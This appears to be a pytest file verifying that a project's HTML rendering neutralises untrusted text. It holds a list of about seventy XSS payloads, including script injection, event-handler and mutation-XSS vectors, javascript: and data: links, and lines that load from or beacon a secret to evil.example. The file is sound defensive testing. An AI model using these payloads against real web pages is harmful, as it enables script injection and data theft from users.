"""Responses as HTML: whatever an output, a name or an error says, nothing in the page can become active."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cogwork.responses import refusal_of, rendered, response_of
from cogwork.responses.html import ATTRIBUTES, POLICY, SCHEMES, TAGS, fragment, from_markdown, sanitised
from cogwork.responses.results import Response
from state.errors import Fault
from tests.told import REPORT, fault, result

pytestmark = pytest.mark.req("X11")

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<p id=cookie name=cookie class=admin>clobbered</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</code></pre></section><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/executions/1/cancel)",
    "[x](#anchor)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\ny\n```',
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "99999999999999999999. a\n1. b",
    "# <script>alert(1)</script>\n> <iframe src=x>\n\n- <svg/onload=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&#x202e;cod.exe&#1;&#x2066; `&#x202e;`",
    "\u202ecod.exe\u2066<b>",
    "\u2028<script>alert(1)</script>\u2029",
]


class Reading(HTMLParser):
    """What a page has: its elements with their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    unknown_decl = handle_pi = handle_comment


def hold(html: str) -> None:
    """Hold a fragment to what is allowed: elements, attributes and addresses; nothing else, and no comments."""
    reading = Reading()
    reading.feed(html)
    reading.close()
    assert not reading.odd, html
    for tag, attributes in reading.elements:
        assert tag in TAGS, (tag, html)
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)
        if "href" in attributes:
            assert str(attributes["href"]).partition(":")[0].lower() in SCHEMES, attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", html)
    assert sanitised(html) == html, "a second look changes nothing"


def everywhere(text: str) -> Iterator[Response]:
    """Responses that have the text in each place that something from outside can be in."""
    yield response_of(result(text))
    yield response_of(result(text), text_as="markdown")
    yield response_of(result({"code": text, "language": "html"}))
    yield response_of(result({text: f"{text}\n{text}", "n": [text]}))
    question = {"at": text, "ask": text, "show": {text: text}, "form": {"properties": {text: {"enum": [text]}}}}
    yield response_of(result(status="paused", reason="human", questions=(question,), workflow=text, id=text))
    yield response_of(result(status="failed", reason=text, error=fault(text, text, node=text, details={text: text})))
    yield response_of(
        result(steps={text: {"path": text, "bytes": 1}, "b": {"type": "image", "mime": text, "uri": text}})
    )
    yield refusal_of(Fault("tool_error", text, details=text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_active_wherever_it_stands(attack: str) -> None:
    hold(from_markdown(attack))
    hold(sanitised(attack))
    for made in everywhere(attack):
        hold(fragment(made))
        page = rendered(made, "html")
        head, _, body = page.partition("<body>")
        assert head.count("<") == 12 and "<script" not in page.lower().replace("&lt;script", "")
        assert body.endswith("</main>\n</body>\n</html>\n") and body.count("<body") == 0


pieces = st.sampled_from(
    [*ATTACKS, "<", ">", '"', "'", "`", "[", "](", ")", "!", "\n", "\n\n", "&", ";", "#", "- ", "|", "*", "a"]
)
texts = st.lists(pieces | st.text(max_size=12), max_size=8).map("".join)


@given(texts)
@settings(max_examples=150, deadline=None)
def test_html_never_has_an_element_or_attribute_beyond_the_allowed_ones_whatever_the_text(text: str) -> None:
    hold(from_markdown(text))
    hold(sanitised(text))
    for made in everywhere(text):
        hold(fragment(made))


def test_what_is_harmless_is_kept() -> None:
    html = from_markdown(
        f"{REPORT}\n[a](https://example.org/x?a=1&b=2) <b>b</b> ~~no~~ ![pic](https://example.org/p.png)\n\n3. c"
    )
    for wanted in (
        "<h1>Retries</h1>",
        "<strong>again</strong>",
        '<td align="center">yes</td>',
        '<pre><code class="language-python">print("1 &lt; 2")',
        '<a href="https://example.org/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">a</a>',
        "&lt;b&gt;b&lt;/b&gt; <s>no</s>",
        '<a href="https://example.org/p.png" rel="noopener noreferrer nofollow">picture: pic</a>',
        '<ol start="3">',
    ):
        assert wanted in html
    hold(html)


def test_the_page_fetches_nothing_and_says_so() -> None:
    page = rendered(response_of(result(REPORT)), "html")
    assert page.startswith("<!doctype html>") and POLICY.replace("'", "&#x27;") in page
    assert "src=" not in page and "@import" not in page and "url(" not in page


def test_the_text_of_an_output_is_all_there_for_whoever_reads_the_page() -> None:
    class Text(HTMLParser):
        said = ""

        def handle_data(self, data: str) -> None:
            self.said += data

    def said(html: str) -> str:
        reading: Any = Text(convert_charrefs=True)
        reading.feed(html)
        reading.close()
        return str(reading.said)

    for attack in (each for each in ATTACKS if not re.search("[\x00\x01\u202e]", each)):
        assert attack.rstrip("\n") in said(fragment(response_of(result(attack), text_as="text"))).replace("\r", "\n")
